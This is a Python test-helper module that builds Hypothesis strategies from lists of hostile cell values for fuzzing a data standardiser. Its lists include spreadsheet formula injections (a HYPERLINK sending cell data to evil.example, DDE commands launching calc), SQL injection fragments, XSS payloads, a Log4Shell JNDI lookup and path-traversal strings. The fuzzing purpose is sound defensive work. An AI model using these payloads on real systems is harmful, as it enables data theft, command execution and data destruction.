"""Hostile strings for property tests: what a careless or malicious partner file can put in a cell.

The building blocks are plain lists (so a test can also loop over them) and hypothesis strategies
that mix them with random text:

* ``QUOTES``, ``BACKSLASHES``: ``'`` ``"`` `````, doubled and escaped forms;
* ``CONTROL``: NUL and every other C0 control, DEL, C1 controls, CR/LF, the Unicode line separators;
* ``BIDI``, ``ZERO_WIDTH``, ``COMBINING``: bidi overrides (U+202E), zero-width characters and a BOM,
  combining marks stacked on a letter ("zalgo");
* ``SCRIPTS``: Latin, Cyrillic (and Cyrillic look-alikes of Latin), Greek, Arabic, Hebrew, CJK,
  Devanagari, emoji with joiners and skin tones, ligatures that decompose into many characters,
  mathematical letters, a lone surrogate;
* ``FORMULAS``: spreadsheet formula prefixes ``= + - @ \\t \\r`` and full-width look-alikes;
* ``SQL``: injection fragments (``'; DROP TABLE notifications; --`` and friends, placeholders);
* ``HTML``: script tags, attribute break-outs, ``</textarea>``, ``</script>``, comments, entities;
* ``CSV``: delimiters, quotes and newlines that break a naive CSV writer or reader;
* ``FORMAT``: printf/str.format/template placeholders, path traversal, device names;
* long values from 10 thousand to 1 million characters (a repeated hostile piece).
"""

from __future__ import annotations

import datetime as dt
import math

from hypothesis import strategies as st

QUOTES = ["'", '"', "`", "''", '""', "\\'", '\\"', "‘", "’", "“", "”", "ʼ"]
BACKSLASHES = ["\\", "\\\\", "\\n", "\\x00", "\\u202e", "\\N{NULL}"]
CONTROL = [chr(i) for i in range(0x20)] + ["\x7f", "\x80", "\x85", "\x9f", "\r\n", "\u2028", "\u2029"]
BIDI = ["\u202e", "\u202d", "\u202a", "\u202b", "\u202c", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e",
        "\u200f", "\u061c"]
ZERO_WIDTH = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u034f"]
COMBINING = ["e\u0301", "a\u0308\u0308\u0308", "Z\u0336\u0337\u0338\u0334\u0335", "o\u20dd", "n\u0303\u0361"]
SCRIPTS = [
    "Smith", "O'Brien", "Zoë", "Łukasz", "Ærøskøbing", "straße", "İstanbul", "ǅemal",
    "Смирнов", "Ѕмітһ",  # Cyrillic, and Cyrillic letters that look like Latin "Smith"
    "Παπαδόπουλος", "محمد", "عبد الله", "שָׁלוֹם", "李", "山田太郎", "김민준", "देवनागरी",
    "🙂", "👨\u200d👩\u200d👧", "👍🏽", "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "ﷺ", "ﷻ", "Ⅻ", "ﬃ", "㍿", "𝔖𝔪𝔦𝔱𝔥", "𝟘𝟙𝟚", "١٢٣", "\ud800",  # ligatures, maths, Arabic digits, lone surrogate
]
FORMULAS = [
    "=1+1", '=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
    "\t=1+1", "\r=1+1", "=cmd|' /C notepad'!'A1'", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "＝1+1", "＋1", "－1", "＠SUM(1)", " =1+1", "\n=1+1", "-", "+", "=", "@",
]
SQL = [
    "'; DROP TABLE notifications; --", "' OR '1'='1", "\" OR 1=1 --", "1); DELETE FROM deliveries; --",
    "'); DROP TABLE deliveries; --", "x' UNION SELECT * FROM person_mentions --", "?", "$1", "$name", ":name",
    "%s", "'||(SELECT 1)||'", "/* comment */", "\\'; ATTACH 'evil.duckdb' AS evil; --",
    "'; COPY notifications TO '/tmp/x.csv'; --", "; PRAGMA version;", "E'\\x27'",
]
HTML = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>', "'><svg onload=alert(1)>", "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>', "javascript:alert(1)", "<!--", "-->", "<![CDATA[", "]]>",
    "&lt;script&gt;", "&amp;", "<b>bold</b>", "<iframe src=//evil.example>", "<style>*{display:none}</style>",
    '<div style="background:url(javascript:alert(1))">', "{{7*7}}", "${7*7}",
]
CSV = [",", ";", "|", "\t", "\n", "\r\n", "\r", '"', '""', ',"\n,', '"a,b"', "\x1f", "\x1e"]
FORMAT = ["%s%s%s%n", "%(x)s", "{0}", "{0!r}", "{name}", "${jndi:ldap://evil.example/a}",
          "../../etc/passwd", "..\\..\\windows\\win.ini", "/dev/zero", "CON", "NUL", "file:///etc/passwd"]

PIECES = QUOTES + BACKSLASHES + CONTROL + BIDI + ZERO_WIDTH + COMBINING + SCRIPTS + FORMULAS + SQL + HTML \
    + CSV + FORMAT
# Pieces a UTF-8 file can carry (a lone surrogate cannot be encoded).
ENCODABLE_PIECES = [p for p in PIECES if not any(0xD800 <= ord(c) <= 0xDFFF for c in p)]
# The payloads whose effect the output tests look for.
INJECTIONS = FORMULAS + SQL + HTML

piece = st.sampled_from(PIECES)
encodable_piece = st.sampled_from(ENCODABLE_PIECES)


def _mix(pieces: st.SearchStrategy[str], max_parts: int, alphabet: st.SearchStrategy[str] | None) -> st.SearchStrategy[str]:
    random_text = st.text(alphabet=alphabet, max_size=12) if alphabet is not None else st.text(max_size=12)
    return st.lists(st.one_of(pieces, pieces, random_text), min_size=1, max_size=max_parts).map("".join)


def long_text(pieces: st.SearchStrategy[str] = piece, min_size: int = 10_000,
              max_size: int = 1_000_000) -> st.SearchStrategy[str]:
    """A hostile piece (or a short mix of them) repeated to between ``min_size`` and ``max_size`` characters."""

    def build(unit: str, n: int) -> str:
        unit = unit or "x"
        return (unit * (n // len(unit) + 1))[:n]

    return st.builds(build, st.lists(pieces, min_size=1, max_size=4).map("".join),
                     st.sampled_from([min_size, 65_537, 100_001, max_size]) | st.integers(min_size, max_size))


def hostile_text(max_parts: int = 8, long: bool = True, max_long: int = 1_000_000) -> st.SearchStrategy[str]:
    """Short mixes of hostile pieces and random text, and (when ``long``) very long values."""
    short = _mix(piece, max_parts, None)
    return st.one_of(short, short, short, long_text(max_size=max_long)) if long else short


def encodable_text(max_parts: int = 6, long: bool = False, max_long: int = 200_000) -> st.SearchStrategy[str]:
    """Hostile text a UTF-8 file can hold (no lone surrogates): for whole deliveries."""
    safe_alphabet = st.characters(blacklist_categories=("Cs",))
    short = _mix(encodable_piece, max_parts, safe_alphabet)
    if not long:
        return short
    return st.one_of(short, short, short, long_text(encodable_piece, max_size=max_long))


def hostile_values(long: bool = True) -> st.SearchStrategy[object]:
    """Anything a standardiser may be handed: hostile text, missing markers, numbers, bytes, dates, containers."""
    return st.one_of(
        hostile_text(long=long), hostile_text(long=long),
        st.sampled_from([None, math.nan, math.inf, -math.inf, 0, -1, 10**30, True, "", " ", "NULL", "n/a"]),
        st.integers(), st.floats(), st.binary(max_size=40),
        st.dates(min_value=dt.date(1, 1, 1)), st.datetimes(),
        st.lists(st.text(max_size=5), max_size=3), st.dictionaries(st.text(max_size=3), st.integers(), max_size=2),
    )


def column_values(long: bool = True, max_long: int = 200_000) -> st.SearchStrategy[object]:
    """What a DataFrame column handed to a vectorised standardiser holds: text, numbers, bytes, missing."""
    text = hostile_text(long=long, max_long=max_long)
    return st.one_of(
        text, text,
        st.sampled_from([None, math.nan, 0, 0.0, -1, 1.5, "", " ", "NULL"]), st.integers(), st.floats(),
        st.binary(max_size=20),
    )
